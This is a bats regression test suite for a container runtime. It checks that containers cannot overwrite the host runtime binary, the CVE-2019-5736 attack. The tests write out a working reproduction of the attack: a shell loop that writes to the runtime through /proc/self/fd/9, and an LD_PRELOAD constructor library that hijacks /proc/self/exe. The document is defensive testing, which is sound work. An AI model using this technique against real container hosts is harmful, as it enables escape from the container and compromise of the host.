#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# S01, CVE-2019-5736: a container gets hold of the runtime's own binary, waits
# until nobody executes it any more, and writes.
#
# shellcheck disable=SC2016,SC2034

load ../lib/common

setup() {
	requires root program:gcc
	new_bundle
	# A copy: without the defence it would be overwritten, and other tests
	# that execute the same file would make the attempt fail as "busy".
	cp "$BULKHEAD" "$BATS_TEST_TMPDIR/bulkhead-oci"
	BULKHEAD=$BATS_TEST_TMPDIR/bulkhead-oci
	before=$(sha256sum <"$BULKHEAD")
	mkfifo "$ROOTFS/go"
}

teardown() {
	"$BULKHEAD" --root "$BATS_TEST_TMPDIR/store" delete --force "$ID" || :
	clean_up
}

# The container holds a descriptor and waits; the runtime goes; it writes.
hold_and_write() {
	start_container "$@"
	await holding
	kill -KILL "$CONTAINER"
	finish_container 8>&8 || :
	KILLED=yes
	exec 8<>"$BATS_TEST_TMPDIR/pipe"
	echo go >"$ROOTFS/go"
	await tried
	[ "$(sha256sum <"$BULKHEAD")" = "$before" ]
}

# Read an own binary as descriptor 9 ($1 is its path), wait, try to write in
# every way, as long as somebody still executes it.
writer='exec 9<"$0" || exit 1
	echo holding
	read -r line </go
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
		result=$( (echo hacked >>/proc/self/fd/9) 2>&1) && break
		chmod 777 /proc/self/fd/9 2>/dev/null
		case $result in *busy*) usleep 50000 ;; *) break ;; esac
	done
	echo "${result:-written}"
	echo tried'

@test "S01 the runtime of a shared pid namespace can't be written" {
	# All that a container can have, to reach /proc/PID/exe of its parent.
	config '.linux.namespaces |= map(select(.type != "pid"))
		| .process.noNewPrivileges = false
		| .process.capabilities |= map_values(["CAP_SYS_PTRACE", "CAP_KILL",
		"CAP_DAC_OVERRIDE", "CAP_FOWNER"])'
	args sh -c 'exec sh -c "$1" "/proc/$PPID/exe"' sh "$writer"
	hold_and_write
}

# Let the rootfs have what a dynamic program of the host needs, and a library
# that turns any program into the attack.
plant_library() {
	local library
	ldd "$BULKHEAD" >/dev/null 2>&1 || skip 'the program is static'
	for library in $(ldd "$BULKHEAD" | grep -o '/[^ ]*'); do
		mkdir -p "$ROOTFS${library%/*}"
		cp -L "$library" "$ROOTFS$library"
	done
	gcc -shared -fPIC -o "$ROOTFS/attack.so" -x c - <<-'C'
		#include <stdlib.h>
		#include <unistd.h>
		#include <fcntl.h>
		__attribute__((constructor)) static void attack(void)
		{
			int fd = open("/proc/self/exe", O_RDONLY);

			unsetenv("LD_PRELOAD");
			dup2(fd, 9);
			execl("/bin/sh", "sh", "-c", getenv("WRITER"),
			      "/proc/self/fd/9", (char *)0);
			_exit(1);
		}
	C
	config '.process.env += ["LD_PRELOAD=/attack.so", "WRITER=" + $w]' \
		--arg w "$writer"
}

@test "S01 the program is /proc/self/exe" {
	plant_library
	args /proc/self/exe --version
	hold_and_write
}

@test "S01 the program's interpreter is /proc/self/exe" {
	plant_library
	printf '#!/proc/self/exe\n' >"$ROOTFS/bin/script"
	chmod 755 "$ROOTFS/bin/script"
	args /bin/script
	hold_and_write
}

@test "S01 the program is a link to /proc/self/exe" {
	plant_library
	ln -s /proc/self/exe "$ROOTFS/bin/link"
	args link
	hold_and_write
}

@test "S01 an unprivileged user's own binary can't be written either" {
	requires unprivileged
	plant_library
	args /proc/self/exe --version
	unprivileged_bundle
	chown 12345 "$BULKHEAD"
	hold_and_write setpriv --reuid=12345 --regid=12345 --clear-groups
}

# hold_and_write, by `exec WORD...` in a container that does nothing.
exec_holds_and_writes() {
	local store=$BATS_TEST_TMPDIR/store
	jq --arg w "$writer" '.process * {args: $ARGS.positional,
		env: (.process.env + ["LD_PRELOAD=/attack.so", "WRITER=" + $w])}' \
		"$BUNDLE/config.json" --args "$@" >"$BATS_TEST_TMPDIR/process"
	args sleep 1000
	"$BULKHEAD" --root "$store" create -b "$BUNDLE" "$ID" </dev/null \
		>/dev/null 3>&-
	"$BULKHEAD" --root "$store" start "$ID"
	mkfifo "$BATS_TEST_TMPDIR/pipe"
	exec 8<>"$BATS_TEST_TMPDIR/pipe"
	"$BULKHEAD" --root "$store" exec --detach \
		-p "$BATS_TEST_TMPDIR/process" "$ID" </dev/null \
		>"$BATS_TEST_TMPDIR/pipe" 2>"$BATS_TEST_TMPDIR/stderr" 3>&- 8>&-
	await holding
	echo go >"$ROOTFS/go"
	await tried
	[ "$(sha256sum <"$BULKHEAD")" = "$before" ]
}

@test "S01 exec of /proc/self/exe" {
	plant_library
	exec_holds_and_writes /proc/self/exe
}

@test "S01 exec of a script whose interpreter is /proc/self/exe" {
	plant_library
	printf '#!/proc/self/exe\n' >"$ROOTFS/bin/script"
	chmod 755 "$ROOTFS/bin/script"
	exec_holds_and_writes /bin/script
}
